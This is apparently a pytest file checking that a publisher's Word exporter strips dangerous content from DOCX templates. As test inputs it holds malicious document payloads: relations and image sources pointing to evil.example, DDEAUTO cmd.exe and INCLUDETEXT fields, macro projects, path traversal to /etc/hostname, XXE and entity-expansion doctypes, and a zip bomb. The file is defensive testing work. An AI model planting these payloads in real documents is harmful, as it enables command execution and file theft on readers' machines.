"""Nothing of a template runs, fetches or leads out of the document that is made on it."""

import io
import re
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import msgspec
import pytest
from click.testing import CliRunner

from publisher.cli import cli
from publisher.contracts import Context
from publisher.errors import ConfigError
from publisher.exporters.word import DocxExporter
from publisher.model import Release
from publisher.report import Report
from tests.conftest import png
from tests.exporters.word.templates import R, relations, template

SEEDS = Path(__file__).resolve().parents[3] / "seeds"
AWAY = "http://evil.example/x"
SPACES = (
    f'xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)


def headed(document: Any) -> None:
    document.sections[0].header.paragraphs[0].text = "Linhe"


def house(folder: Path, inside: str, links: bytes = b"", add: Mapping[str, bytes] | None = None) -> Path:
    """Return a template whose header says Linhe and has ``inside``, with the relations ``links``."""
    inside = re.sub(r"^<([\w:]+)", rf"<\1 {SPACES}", inside)
    return template(
        folder / "house.dotx",
        headed,
        replace={"word/header1.xml": (b"</w:p>", f"{inside}</w:p>".encode())},
        add={**({"word/_rels/header1.xml.rels": links} if links else {}), **(add or {})},
    )


def parts(release: Release, context: Context, path: Path) -> dict[str, bytes]:
    data = DocxExporter().export(release, msgspec.structs.replace(context, reference=path))
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


@pytest.fixture
def short(context: Context, english_article: Any) -> Release:
    return Release((msgspec.structs.replace(english_article, blocks=english_article.blocks[:2]),))


@pytest.mark.parametrize(
    ("inside", "kind"),
    [
        ('<w:hyperlink r:id="rX"><w:r><w:t>Gull</w:t></w:r></w:hyperlink>', "hyperlink"),
        ('<w:r><w:pict><v:shape><v:imagedata r:id="rX"/></v:shape></w:pict></w:r>', "image"),
        ('<w:r><w:drawing><a:blip r:link="rX"/></w:drawing></w:r>', "image"),
        ('<w:r><w:pict><v:shape><v:fill r:id="rX"/></v:shape></w:pict></w:r>', "image"),
        (
            '<w:r><w:drawing><wp:docPr id="1"><a:hlinkClick r:id="rX"/></wp:docPr></w:drawing></w:r>',
            "hyperlink",
        ),
        ('<w:subDoc r:id="rX"/>', "subDocument"),
        ('<w:altChunk r:id="rX"/>', "aFChunk"),
        ('<w:r><w:object><o:OLEObject Type="Link" r:id="rX"/></w:object></w:r>', "oleObject"),
    ],
)
def test_a_relation_that_leads_out_of_a_header_is_cut(
    inside: str, kind: str, short: Release, context: Context, tmp_path: Path
) -> None:
    path = house(tmp_path, inside, relations(("rX", kind, AWAY, True)))
    made = parts(short, context, path)
    assert b"Linhe" in made["word/header-default.xml"]
    assert b"rX" not in made["word/header-default.xml"]
    assert not [name for name, content in made.items() if b"evil.example" in content]
    assert any(notice.code == "reference-cleaned" for notice in context.report)


@pytest.mark.parametrize(
    "inside",
    [
        f'<w:r><w:pict><v:shape href="{AWAY}"><v:textpath string="x"/></v:shape></w:pict></w:r>',
        f'<w:r><w:pict><v:shape><v:imagedata src="{AWAY}"/></v:shape></w:pict></w:r>',
        f'<w:r><w:pict><v:shape><v:imagedata o:althref="{AWAY}"/></v:shape></w:pict></w:r>',
    ],
)
def test_an_address_in_a_drawing_is_cut(
    inside: str, short: Release, context: Context, tmp_path: Path
) -> None:
    made = parts(short, context, house(tmp_path, inside))
    assert not [name for name, content in made.items() if b"evil.example" in content]


def field(*codes: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    shown = "<w:r><w:t>kept</w:t></w:r>"
    return mark.format("begin") + runs + mark.format("separate") + shown + mark.format("end")


@pytest.mark.parametrize(
    "inside",
    [
        field("DDEAUTO c:\\\\cmd.exe"),
        field("DDE", "AUTO c:\\\\cmd.exe"),
        field(" INCLUDEPICTURE ", f'"{AWAY}"'),
        field(f'INCLUDETEXT "{AWAY}"'),
        field("QUOTE ", field("DDEAUTO c:\\\\cmd.exe")),
        f'<w:fldSimple w:instr="INCLUDETEXT {AWAY}"><w:r><w:t>kept</w:t></w:r></w:fldSimple>',
        field("MACROBUTTON AutoOpen"),
    ],
)
def test_a_field_that_runs_or_fetches_leaves_what_it_showed(
    inside: str, short: Release, context: Context, tmp_path: Path
) -> None:
    header = parts(short, context, house(tmp_path, inside))["word/header-default.xml"]
    for word in (b"DDE", b"AUTO", b"INCLUDE", b"MACROBUTTON", b"evil", b"cmd.exe"):
        assert word not in header
    assert b"kept" in header


def test_a_field_that_counts_pages_stays(short: Release, context: Context, tmp_path: Path) -> None:
    header = parts(short, context, house(tmp_path, field(" PA", "GE ")))["word/header-default.xml"]
    assert b"instrText" in header
    assert not context.report.notices or all("header" not in n.message for n in context.report)


def test_a_picture_that_leads_out_of_the_package_is_not_there(
    short: Release, context: Context, tmp_path: Path
) -> None:
    inside = '<w:r><w:drawing><a:blip r:embed="rX"/></w:drawing></w:r>'
    links = relations(("rX", "image", "../../../../etc/hostname", False))
    made = parts(short, context, house(tmp_path, inside, links))
    assert not [name for name in made if name.startswith("word/media/")]


def test_a_file_that_is_no_picture_is_not_taken_as_one(
    short: Release, context: Context, tmp_path: Path
) -> None:
    inside = '<w:r><w:drawing><a:blip r:embed="rX"/></w:drawing></w:r>'
    links = relations(("rX", "image", "media/run.exe", False))
    made = parts(short, context, house(tmp_path, inside, links, {"word/media/run.exe": b"MZ"}))
    assert not [name for name in made if "media" in name]


def test_macros_objects_and_a_remote_template_stay_behind(
    short: Release, context: Context, report: Report, tmp_path: Path
) -> None:
    path = template(
        tmp_path / "house.dotx",
        replace={
            "word/settings.xml": (
                b"<w:zoom",
                f'<w:attachedTemplate xmlns:q="{R}" q:id="rT"/><w:zoom'.encode(),
            ),
            "word/_rels/document.xml.rels": (
                b"</Relationships>",
                '<Relationship Id="rM" Target="vbaProject.bin" '
                'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
                f'<Relationship Id="rO" Type="{R}/oleObject" '
                'Target="embeddings/a.bin"/></Relationships>'.encode(),
            ),
        },
        add={
            "word/_rels/settings.xml.rels": relations(("rT", "attachedTemplate", AWAY, True)),
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
            "word/embeddings/a.bin": b"\xd0\xcf\x11\xe0",
            "word/glossary/document.xml": b"<a/>",
        },
    )
    made = parts(short, context, path)
    assert not [n for n in made if "vba" in n or "embeddings" in n or "glossary" in n or "customXml" in n]
    assert not [name for name, content in made.items() if b"evil.example" in content]
    (told,) = [n.message for n in report if n.code == "reference-cleaned"]
    assert "macros" in told
    assert "template that it is attached to" in told
    assert "embedded objects" in told


@pytest.mark.parametrize("suffix", [".dotm", ".docm", ".DOTM"])
def test_a_template_for_macros_is_refused_with_a_way_out(
    suffix: str, short: Release, context: Context, tmp_path: Path
) -> None:
    with pytest.raises(ConfigError, match="macros") as refused:
        parts(short, context, template(tmp_path / f"house{suffix}"))
    assert ".dotx" in refused.value.hint


def test_a_template_for_macros_under_another_name_is_refused(
    short: Release, context: Context, tmp_path: Path
) -> None:
    old = b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    new = b"vnd.ms-word.template.macroEnabledTemplate.main+xml"
    path = template(tmp_path / "house.docx", replace={"[Content_Types].xml": (old, new)})
    with pytest.raises(ConfigError, match="macros"):
        parts(short, context, path)


ENTITIES = b'<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;">]>'
OUTSIDE = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>'


@pytest.mark.parametrize("doctype", [ENTITIES, OUTSIDE])
@pytest.mark.parametrize(
    "part", ["word/styles.xml", "word/header1.xml", "word/settings.xml", "word/document.xml"]
)
def test_a_part_with_entities_is_refused_in_one_line(
    doctype: bytes, part: str, short: Release, context: Context, tmp_path: Path
) -> None:
    path = template(tmp_path / "house.dotx", headed, replace={part: (b"?>", b"?>" + doctype)})
    with pytest.raises(ConfigError, match="DOCTYPE") as refused:
        parts(short, context, path)
    assert "\n" not in str(refused.value)


def test_a_part_that_unpacks_without_end_is_refused(short: Release, context: Context, tmp_path: Path) -> None:
    path = template(tmp_path / "house.dotx", add={"word/media/image9.png": png() + bytes(2**27)})
    with pytest.raises(ConfigError, match="unpacks to more"):
        parts(short, context, path)


@pytest.mark.parametrize("data", [b"no zip", b"\xd0\xcf\x11\xe0 an old .dot", b"PK\x03\x04"])
def test_what_is_no_package_is_refused(data: bytes, short: Release, context: Context, tmp_path: Path) -> None:
    path = tmp_path / "house.dotx"
    path.write_bytes(data)
    with pytest.raises(ConfigError) as refused:
        parts(short, context, path)
    assert refused.value.hint


@pytest.mark.parametrize("width", ["-5", "wide", "0"])
def test_a_page_that_is_none_is_refused(width: str, short: Release, context: Context, tmp_path: Path) -> None:
    path = template(
        tmp_path / "house.dotx",
        replace={"word/document.xml": (b'w:w="12240"', f'w:w="{width}"'.encode())},
    )
    with pytest.raises(ConfigError):
        parts(short, context, path)


@pytest.mark.parametrize("name", ["gone.dotx", "house.odt"])
def test_a_template_that_cannot_stand_in_stops_the_job_before_it_begins(name: str, tmp_path: Path) -> None:
    result = CliRunner().invoke(
        cli, ["export", str(SEEDS / "open-day.txt"), "--reference", name, "--out", str(tmp_path / "out")]
    )
    assert result.exit_code == ConfigError.exit_code
    assert name in result.output
    assert not (tmp_path / "out").exists()


def test_the_settings_can_name_the_template(tmp_path: Path) -> None:
    path = template(tmp_path / "house.dotx", headed)
    (tmp_path / "publisher.toml").write_text(f"reference = '{path}'\n", encoding="utf-8")
    arguments = ["--config", str(tmp_path / "publisher.toml"), "--out", str(tmp_path), "--format", "docx"]
    arguments += ["--lang", "zh-Hans"]
    result = CliRunner().invoke(cli, ["export", str(SEEDS / "open-day.txt"), *arguments])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(tmp_path / "open-day" / "open-day.zh-Hans.docx") as package:
        assert b"Linhe" in package.read("word/header-default.xml")
